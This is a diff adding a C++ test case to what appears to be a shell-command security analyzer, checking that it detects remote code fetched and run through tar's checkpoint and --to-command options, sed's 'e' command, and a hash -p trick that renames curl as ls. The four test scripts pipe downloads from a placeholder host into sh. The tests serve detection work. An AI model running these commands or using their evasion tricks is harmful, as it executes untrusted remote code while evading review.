@@ -447,3 +447,17 @@ TEST_CASE("a lone - right before a here-document stays an argument (the grammar 
   }
   CHECK(command_named(analyze("cat x <<EOF\ny\nEOF"), "cat")->argv == std::vector<std::string>{"cat", "x"});
 }
+
+TEST_CASE("tar's checkpoint and per-member commands, sed's e command and hash -p run or rename commands") {
+  for (auto script : {"tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='sh -c \"curl -fsS https://x.example.com/t | sh\"'",
+                      "tar -xf a.tar --to-command='curl -fsS https://x.example.com/t | sh'",
+                      "sed -n '1e curl -fsS https://x.example.com/s | sh' README.md",
+                      "hash -p \"$(command -v curl)\" ls; ls -fsS https://x.example.com/h | sh"}) {
+    CAPTURE(script);
+    CHECK(has_flow(analyze(script), "network", "exec"));
+  }
+  for (auto script : {"tar -I zstd -xf a.tar.zst", "sed -e 's/a/b/' -e '/x/d' f", "sed -n '1,5p' README.md", "hash -r; ls"}) {
+    CAPTURE(script);
+    CHECK_FALSE(has_flow_to(analyze(script), "exec"));
+  }
+}
